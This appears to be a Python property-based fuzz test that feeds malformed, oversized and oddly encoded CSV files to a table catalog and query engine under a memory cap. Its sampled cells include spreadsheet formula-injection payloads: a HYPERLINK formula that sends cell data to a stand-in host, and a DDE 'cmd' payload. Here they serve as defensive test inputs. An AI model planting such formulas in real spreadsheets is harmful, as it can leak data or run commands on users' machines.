"""Property-based fuzzing of CSV files: wide, ragged, oddly delimited, quoted, encoded and
huge-celled files, each loaded into the table catalog and queried.

Every file must end in a table or one readable sentence, and every query in rows or one
sentence, within bounded time; the whole run is under an address-space cap (a subprocess
with ``RLIMIT_AS``), so a superlinear or unbounded path fails instead of swapping.
"""

from __future__ import annotations

import tempfile
import time
from collections import Counter
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.memory_cap import run_capped

HANG_GUARD_S = 20.0  # one file: a hang guard, not a speed claim
CAP_MB = 4096

_cells = st.one_of(
    st.sampled_from(["1", "-3.5", "1,234.5", "1 234,5", "007", "", "NULL", "2025-01-31", "31/01/2025", "x"]),
    st.sampled_from(['=HYPERLINK("http://x/?d="&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", '"quoted, comma"', '""']),
    st.text(max_size=12).map(lambda t: t.replace("\x00", "")),
    st.integers(1, 30).map(lambda n: "é" * (n * 1000)),  # long multibyte cells
)


@st.composite
def csv_files(draw) -> bytes:
    kind = draw(st.sampled_from(["wide", "ragged", "plain", "odd"]))
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    if kind == "wide":
        columns = draw(st.sampled_from([999, 1000, 1001, 1500, 3000]))
        rows = draw(st.integers(0, 5))
        header = delimiter.join(f"c{i}" for i in range(columns))
        cell = draw(st.sampled_from(["7", "-3.5", "x", "=1+1", '"a, b"', ""]))
        body = [delimiter.join(f"{cell}{r}" for _ in range(columns)) for r in range(rows)]
        text = "\n".join([header, *body]) + "\n"
    elif kind == "ragged":
        lines = [
            delimiter.join(draw(st.lists(_cells, min_size=1, max_size=12))) for _ in range(draw(st.integers(1, 8)))
        ]
        text = "\n".join(lines) + draw(st.sampled_from(["", "\n", "\r\n"]))
    elif kind == "plain":
        width = draw(st.integers(1, 6))
        header = delimiter.join(f"col {i}" for i in range(width))
        lines = [
            delimiter.join(draw(st.lists(_cells, min_size=width, max_size=width)))
            for _ in range(draw(st.integers(0, 20)))
        ]
        text = "\n".join([header, *lines]) + "\n"
    else:
        text = draw(
            st.sampled_from(
                [
                    "a,b\n" + "1," + "x" * 3_000_000 + "\n",  # one 3 MB cell
                    ",".join(["h"] * 1200),  # a wide header and no newline at all
                    "\ufeffa;b\n1;2\n",  # a byte-order mark
                    'a,b\n"unterminated,1\n2,3\n',
                    "a,b\n1,2\n" * 20000,  # many short rows
                    "\n\n\n",
                    "a\x00b,c\n1,2\n",
                ]
            )
        )
    encoding = draw(st.sampled_from(["utf-8", "latin-1", "utf-16"]))
    return text.encode(encoding, errors="replace")


def fuzz_round(examples: int) -> dict:
    """Load and query ``examples`` generated files; the counts, the slowest file and every crash."""
    from engine.errors import ToolError
    from engine.tools.tables.catalog import TableCatalog
    from engine.tools.tables.render import table_data, text_table
    from engine.tools.tables.sandbox import run_select

    counts: Counter[str] = Counter()
    crashes: list[str] = []
    slowest = {"s": 0.0}
    folder = Path(tempfile.mkdtemp(prefix="fuzz-csv-"))

    @settings(max_examples=examples, deadline=None, suppress_health_check=list(HealthCheck), database=None)
    @given(csv_files())
    def one(data: bytes) -> None:
        counts["n"] += 1
        path = folder / f"f{counts['n']}.csv"
        path.write_bytes(data)
        started = time.monotonic()
        try:
            catalog = TableCatalog.from_paths([path])
            for line in catalog.problems:
                assert line.strip() and "\n" not in line and len(line) < 600, line
                counts["refused"] += 1
            for name in catalog.names():
                counts["loaded"] += 1
                try:
                    out = run_select(catalog, f"SELECT * FROM {name} LIMIT 50")
                    text_table(out, catalog.limits)
                    table_data(out)
                    counts["queried"] += 1
                except ToolError as exc:
                    assert exc.message.strip() and "Traceback" not in exc.message
                    counts["query sentence"] += 1
        except Exception as exc:  # noqa: BLE001 - counted and reported by the test
            crashes.append(f"{data[:80]!r}: {type(exc).__name__}: {str(exc)[:160]}")
        finally:
            path.unlink()
        elapsed = time.monotonic() - started
        slowest["s"] = max(slowest["s"], elapsed)
        assert elapsed < HANG_GUARD_S, (data[:80], elapsed)

    one()
    return {**counts, "crashes": crashes, "slowest_s": slowest["s"]}


def test_fuzz_csv_files_under_a_memory_cap(capsys):
    code = "import json; from tests.chaos.test_fuzz_csv import fuzz_round; print(json.dumps(fuzz_round(30)))"
    out, elapsed = run_capped(code, cap_mb=CAP_MB, timeout_s=240)
    with capsys.disabled():
        print(
            f"\nfuzz: {out['n']} CSV files in {elapsed:.0f} s, {out.get('loaded', 0)} loaded, "
            f"{out.get('refused', 0)} refused with one sentence, {out.get('queried', 0)} queried, "
            f"slowest {out['slowest_s']:.1f} s, {len(out['crashes'])} crashes"
        )
    assert out["crashes"] == [], out["crashes"][:5]
    assert out["n"] >= 30 and out.get("loaded", 0) > 0 and out.get("refused", 0) > 0
